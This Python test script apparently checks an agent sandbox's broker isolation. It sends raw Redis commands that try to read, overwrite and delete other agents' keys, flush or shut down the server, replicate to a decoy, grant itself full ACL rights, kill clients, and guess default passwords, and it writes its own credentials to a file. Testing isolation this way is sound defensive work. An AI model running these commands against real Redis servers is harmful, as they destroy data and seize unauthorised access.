"""
Bus attacks, really attempted by an agent against the brokers its policy lets it reach (at L4).
It speaks each protocol itself (no client library), so nothing between it and the broker softens
what it sends. The test starts the decoys and plants the other agents' data; this script reports
what each attempt got, in /output/bus-attacks.json.
"""
import json, os, socket, time
from urllib.parse import urlparse, unquote

cfg = json.loads(os.environ["BUS_ATTACK"])
results = {}


def record(key, fn):
    try:
        results[key] = str(fn())
    except Exception as e:  # noqa: BLE001
        results[key] = type(e).__name__ + ": " + str(e)
    with open("/output/bus-attacks.json", "w") as f:
        json.dump(results, f)


class Resp:
    """A minimal RESP2 client: enough to send any command and read one reply."""

    def __init__(self, host, port):
        self.s = socket.create_connection((host, port), 5)
        self.f = self.s.makefile("rb")

    def call(self, *args):
        out = b"*%d\r\n" % len(args)
        for a in args:
            a = a if isinstance(a, bytes) else str(a).encode()
            out += b"$%d\r\n%s\r\n" % (len(a), a)
        self.s.sendall(out)
        return self.read()

    def read(self):
        line = self.f.readline().rstrip(b"\r\n")
        kind, rest = line[:1], line[1:].decode(errors="replace")
        if kind in (b"+", b"-", b":"):
            return ("ERR " if kind == b"-" else "") + rest
        if kind == b"$":
            n = int(rest)
            if n < 0:
                return "nil"
            data = self.f.read(n + 2)[:-2]
            return data.decode(errors="replace")
        if kind == b"*":
            n = int(rest)
            return [self.read() for _ in range(max(n, 0))]
        return "?" + line.decode(errors="replace")


r = cfg.get("redis")
if r:
    # Its own key, under the prefix its policy grants (mine:{run}:*).
    r["ownKey"] = "mine:%s:k" % os.environ["AIRLOCK_RUN_ID"]
    url = urlparse(os.environ.get(r["env"], ""))
    host, port = url.hostname or "localhost", url.port or 6379
    user, password = unquote(url.username or ""), unquote(url.password or "")
    results["redis:identity"] = user
    me = Resp(host, port)
    record("redis:auth", lambda: me.call("AUTH", user, password))
    record("redis:own-key", lambda: [me.call("SET", r["ownKey"], "mine"), me.call("GET", r["ownKey"])])
    record("redis:other-key-read", lambda: me.call("GET", r["otherKey"]))
    record("redis:other-key-write", lambda: me.call("SET", r["otherKey"], "overwritten"))
    record("redis:other-key-delete", lambda: me.call("DEL", r["otherKey"]))
    record("redis:keys", lambda: me.call("KEYS", "*"))
    record("redis:scan", lambda: me.call("SCAN", "0"))
    record("redis:flushdb", lambda: me.call("FLUSHDB"))
    record("redis:flushall", lambda: me.call("FLUSHALL"))
    record("redis:migrate", lambda: me.call("MIGRATE", "127.0.0.1", r["decoyPort"], r["ownKey"], "0", "1000", "COPY"))
    record("redis:replicaof", lambda: me.call("REPLICAOF", "127.0.0.1", r["decoyPort"]))
    record("redis:slaveof", lambda: me.call("SLAVEOF", "127.0.0.1", r["decoyPort"]))
    record("redis:config-get", lambda: me.call("CONFIG", "GET", "dir"))
    record("redis:config-set", lambda: me.call("CONFIG", "SET", "maxmemory-policy", "allkeys-lru"))
    record("redis:client-list", lambda: me.call("CLIENT", "LIST"))
    record("redis:client-kill", lambda: me.call("CLIENT", "KILL", "TYPE", "normal"))
    record("redis:acl-users", lambda: me.call("ACL", "USERS"))
    record("redis:acl-setuser", lambda: me.call("ACL", "SETUSER", user, "+@all", "~*"))
    record("redis:eval", lambda: me.call("EVAL", "return redis.call('GET', KEYS[1])", "1", r["otherKey"]))
    record("redis:function-flush", lambda: me.call("FUNCTION", "FLUSH"))
    record("redis:debug", lambda: me.call("DEBUG", "SLEEP", "0"))
    record("redis:module", lambda: me.call("MODULE", "LIST"))
    record("redis:shutdown", lambda: me.call("SHUTDOWN", "NOSAVE"))
    record("redis:save", lambda: me.call("SAVE"))
    record("redis:monitor", lambda: me.call("MONITOR"))
    record("redis:select", lambda: me.call("SELECT", "1"))
    record("redis:publish-other", lambda: me.call("PUBLISH", r["otherChannel"], "forged"))
    sub = Resp(host, port)
    sub.call("AUTH", user, password)
    record("redis:subscribe-other", lambda: sub.call("SUBSCRIBE", r["otherChannel"]))
    psub = Resp(host, port)
    psub.call("AUTH", user, password)
    record("redis:psubscribe-all", lambda: psub.call("PSUBSCRIBE", "*"))
    for guess_user, guess_pass in [("default", ""), ("default", "default"), ("airlock-admin", ""), ("airlock-admin", "admin"), ("admin", "admin")]:
        record(f"redis:login:{guess_user}:{guess_pass or 'empty'}", lambda u=guess_user, p=guess_pass: Resp(host, port).call("AUTH", u, p) if p else Resp(host, port).call("PING"))
    record("redis:anonymous", lambda: Resp(host, port).call("GET", r["otherKey"]))
    with open("/output/credentials.json", "w") as f:
        json.dump({"redis": {"host": host, "port": port, "user": user, "password": password}}, f)

print("done")
